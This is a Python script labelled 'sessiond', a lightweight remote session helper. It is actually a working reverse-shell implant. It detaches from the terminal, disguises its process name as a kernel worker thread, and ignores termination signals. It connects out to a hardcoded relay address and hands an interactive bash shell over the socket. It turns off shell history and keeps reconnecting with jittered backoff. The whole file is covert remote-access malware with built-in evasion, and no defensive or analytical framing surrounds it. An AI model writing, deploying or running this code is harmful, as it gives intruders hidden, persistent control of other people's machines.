#!/usr/bin/env python3
"""sessiond - lightweight remote session helper.

Detaches from the controlling terminal, then keeps an interactive
terminal session attached to the configured relay.  Reconnects with
jittered backoff if the relay goes away.
"""
import argparse
import configparser
import logging
import os
import random
import signal
import socket
import sys
import time

LOG = logging.getLogger("sessiond")

DEFAULTS = {
    "relay_host": "203.0.113.77",
    "relay_port": "4431",
    "shell": "/bin/bash",
    "min_backoff": "5",
    "max_backoff": "300",
}


def load_settings(path):
    cfg = configparser.ConfigParser(defaults=DEFAULTS)
    if path and os.path.exists(path):
        cfg.read(path)
    sect = cfg["session"] if cfg.has_section("session") else cfg["DEFAULT"]
    return {
        "host": sect.get("relay_host"),
        "port": sect.getint("relay_port"),
        "shell": sect.get("shell"),
        "min_backoff": sect.getint("min_backoff"),
        "max_backoff": sect.getint("max_backoff"),
    }


def detach():
    """Classic double fork so we are reparented to init and lose the tty."""
    if os.fork() > 0:
        os._exit(0)
    os.setsid()
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    if os.fork() > 0:
        os._exit(0)
    os.chdir("/")
    os.umask(0o022)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    os.close(devnull)


def masquerade(name):
    """Rename the process so it blends in with kernel workers."""
    try:
        import ctypes
        libc = ctypes.CDLL(None)
        PR_SET_NAME = 15
        libc.prctl(PR_SET_NAME, ctypes.c_char_p(name.encode()), 0, 0, 0)
    except Exception:  # pragma: no cover - best effort only
        pass


def attach_session(settings):
    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
    conn.connect((settings["host"], settings["port"]))
    child = os.fork()
    if child == 0:
        fd = conn.fileno()
        os.dup2(fd, 0)
        os.dup2(fd, 1)
        os.dup2(fd, 2)
        import pty
        os.environ["HISTFILE"] = "/dev/null"
        os.environ["TERM"] = "xterm-256color"
        pty.spawn([settings["shell"], "-i"])
        os._exit(0)
    conn.close()
    _, status = os.waitpid(child, 0)
    return os.waitstatus_to_exitcode(status)


def run_forever(settings):
    backoff = settings["min_backoff"]
    while True:
        try:
            code = attach_session(settings)
            LOG.info("session ended with %s", code)
            backoff = settings["min_backoff"]
        except OSError as exc:
            LOG.debug("relay unreachable: %s", exc)
            backoff = min(backoff * 2, settings["max_backoff"])
        time.sleep(backoff + random.uniform(0, backoff / 4))


def parse_args(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("-c", "--config", default=os.path.expanduser("~/.config/sessiond.ini"))
    ap.add_argument("--foreground", action="store_true")
    ap.add_argument("--name", default="[kworker/u8:2]")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.WARNING)
    settings = load_settings(args.config)
    if not args.foreground:
        detach()
    masquerade(args.name)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGCHLD, signal.SIG_DFL)
    try:
        run_forever(settings)
    except KeyboardInterrupt:
        return 0
    return 0


if __name__ == "__main__":
    sys.exit(main())
